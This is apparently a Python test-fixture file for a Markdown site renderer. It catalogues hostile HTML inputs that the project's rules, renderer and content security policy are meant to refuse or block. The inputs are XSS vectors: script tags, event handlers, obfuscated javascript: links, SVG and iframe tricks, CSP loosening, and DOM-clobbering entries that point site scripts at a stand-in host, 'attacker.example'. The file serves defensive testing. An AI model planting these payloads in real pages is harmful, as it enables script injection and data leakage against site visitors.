"""Hostile HTML: refused in Markdown by the rules and in a page by `rendered`, and stopped in the browser by the policy.

`HARM` is a script that a page would run; `OUT` an address that a page would tell of its reader.
"""

HARM = "window.harm=1;top.harm=1"
OUT = "https://attacker.example"

HTML = {
    "script": f"<script>{HARM}</script>",
    "script-remote": f"<script src={OUT}/x.js></script>",
    "script-data": f"<script src='data:text/javascript,{HARM}'></script>",
    "script-module": f"<script type=module>import '{OUT}/x.js'</script>",
    "script-case": f"<ScRiPt>{HARM}</sCrIpT>",
    "handler-error": f"<img src=/none onerror='{HARM}'>",
    "handler-toggle": f"<details open ontoggle='{HARM}'>x</details>",
    "handler-focus": f"<input autofocus onfocus='{HARM}'>",
    "handler-animation": f"<style>@keyframes x{{}}</style><p style='animation:x 1s' onanimationstart='{HARM}'>x</p>",
    "svg-onload": f"<svg onload='{HARM}'></svg>",
    "svg-script": f"<svg><script>{HARM}</script></svg>",
    "svg-use": f"<svg><use href='{OUT}/x.svg#x'/></svg>",
    "svg-image": f"<svg><image href='{OUT}/x.png'/></svg>",
    "svg-link": f"<svg><a data-click href='javascript:{HARM}'><text x=9 y=9>x</text></a></svg>",
    "math": f"<math><mtext data-click href='javascript:{HARM}'>x</mtext></math>",
    "link-javascript": f"<a data-click href='javascript:{HARM}'>x</a>",
    "link-spelt-out": f"<a data-click href='&#x6a;ava&Tab;script&colon;{HARM}'>x</a>",
    "link-control": f"<a data-click href='\x01JaVaScRiPt:{HARM}'>x</a>",
    "link-ping": f"<a data-click href='#x' ping='{OUT}/ping'>x</a>",
    "frame-srcdoc": f"<iframe srcdoc='<script>{HARM}</script>'></iframe>",
    "frame-javascript": f"<iframe src='javascript:{HARM}'></iframe>",
    "frame-remote": f"<iframe src='{OUT}/'></iframe>",
    "object": f"<object data='{OUT}/x.swf'></object>",
    "embed": f"<embed src='{OUT}/x.swf'>",
    "base": f"<base href='{OUT}/'><img src=x.png>",
    "form": f"<form action='{OUT}/'><button data-click>x</button></form>",
    "formaction": f"<form><button data-click formaction='{OUT}/'>x</button></form>",
    "image-remote": f"<img src='{OUT}/x.png'>",
    "image-set": f"<img srcset='{OUT}/x.png 1x'>",
    "picture": f"<picture><source srcset='{OUT}/x.webp'><img></picture>",
    "video": f"<video src='{OUT}/x.mp4' poster='{OUT}/x.png' autoplay muted></video>",
    "audio": f"<audio src='{OUT}/x.mp3' autoplay></audio>",
    "track": f"<video><track default src='{OUT}/x.vtt'></video>",
    "style-import": f"<style>@import '{OUT}/x.css';</style>",
    "style-background": f"<p style='background:url({OUT}/x.png)'>x</p>",
    "style-sheet": f"<link rel=stylesheet href='{OUT}/x.css'>",
    "style-overlay": "<div id=overlay style='position:fixed;inset:0;z-index:999;background:red'></div>",
    "manifest": f"<link rel=manifest href='{OUT}/x.json'>",
    "preload": f"<link rel=preload as=image href='{OUT}/x.png'>",
    "policy-looser": f"<meta http-equiv=Content-Security-Policy content='script-src *'><script src={OUT}/x.js></script>",
    # What the site's scripts look for, before they find their own.
    "clobber-config": (
        f'<script id=__config type=application/json>{{"base":"{OUT}","features":[],"translations":{{}},'
        f'"search":"{OUT}/worker.js","kb":{{}}}}</script>'
    ),
    "clobber-card": f"<div data-kb-card='{OUT}/memory.js'></div><script id=kb-card-data type=application/json>{{}}</script>",
    "clobber-globals": f"<a id=__md_scope href='{OUT}/'></a><form id=kbCopy name=__md_get><input name=x></form>",
}

CLICKED = "[data-click]"

NOT_STOPPED = {
    "refresh": f"<meta http-equiv=refresh content='0;url={OUT}/'>",
    "link": f"<a href='{OUT}/'>x</a>",
}
"""No policy forbids a page to lead elsewhere (CSP3 has no such directive): here the rules and `rendered` stand alone."""

RULES = {
    "attribute lists": "attribute-list",
    "executable addresses": "unsafe-scheme",
    "remote images": "remote-image",
    "ids that scripts look for": "reserved-id",
    "YAML tags, aliases and floods": "front-matter-syntax",
    "templates of the theme named by a page": "unknown-field",
    "braces of template languages": "placeholder-outside-reply",
    "includes of other files": "snippet",
    "symbolic links": "symbolic-link",
    "pictures that are programs": "forbidden-file",
    "text that takes for ever": "slow-text",
    "files that fill the disk": "file-too-large",
    "text that shows what it is not": "invisible-character",
    "folds with attributes": "fold",
}
"""What else an attacker tries in Markdown, and the rule that refuses it; tests/unit/rules has its rows."""
